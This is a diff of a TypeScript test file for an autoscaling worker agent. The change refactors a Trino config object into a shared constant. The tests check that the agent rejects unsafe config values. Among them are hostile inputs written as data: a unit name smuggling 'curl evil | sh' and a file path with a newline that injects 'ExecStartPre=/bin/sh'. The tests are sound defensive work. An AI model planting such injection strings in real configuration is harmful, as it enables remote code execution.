@@ -21,13 +21,14 @@ const fleetProps = (vpc: ec2.IVpc, over: Partial<WorkerFleetProps> = {}): Worker
   maxCapacity: 4,
   ...over,
 });
+const trinoWorker = { kind: 'trino', url: 'http://127.0.0.1:8080', user: 'graceful-autoscaler' } as const;
 const agentConfig: AgentFileConfig = {
   intervalSeconds: 10,
   namespace: 'GracefulAutoscaler/lib',
   runningTasksMetric: 'RunningTasks',
   oldestTaskAgeMetric: 'OldestTaskAgeSeconds',
-  tasks: { kind: 'trino', url: 'http://127.0.0.1:8080', user: 'graceful-autoscaler' },
-  shutdown: { kind: 'trino', url: 'http://127.0.0.1:8080', user: 'graceful-autoscaler' },
+  tasks: trinoWorker,
+  shutdown: trinoWorker,
   runAsRoot: false,
 };
 
@@ -66,7 +67,7 @@ describe('WorkerAgent refuses strings that would reach user data unsafely', () =
   test.each<[string, Partial<AgentFileConfig>, RegExp]>([
     ['a worker unit that injects into mkdir', { workerUnit: 'trino.service; curl evil | sh #.service' }, /^Lib\/Agent: config\.workerUnit \(.*\) must be a systemd service unit name/],
     ['a worker unit that is the gate', { workerUnit: 'graceful-autoscaler-in-service.service' }, /config\.workerUnit .* must be the worker's own unit/],
-    ['a secret file with a line break', { tasks: { ...agentConfig.tasks, sharedSecretFile: '/etc/s\nExecStartPre=/bin/sh' } }, /config\.tasks\.sharedSecretFile .* must be an absolute file path/],
+    ['a secret file with a line break', { tasks: { ...trinoWorker, sharedSecretFile: '/etc/s\nExecStartPre=/bin/sh' } }, /config\.tasks\.sharedSecretFile .* must be an absolute file path/],
     ['an interval of 0', { intervalSeconds: 0 }, /config\.intervalSeconds \(0\) must be a whole number from 1 to 300/],
   ])('%s', (_name, over, message) => {
     const { stack } = setup();
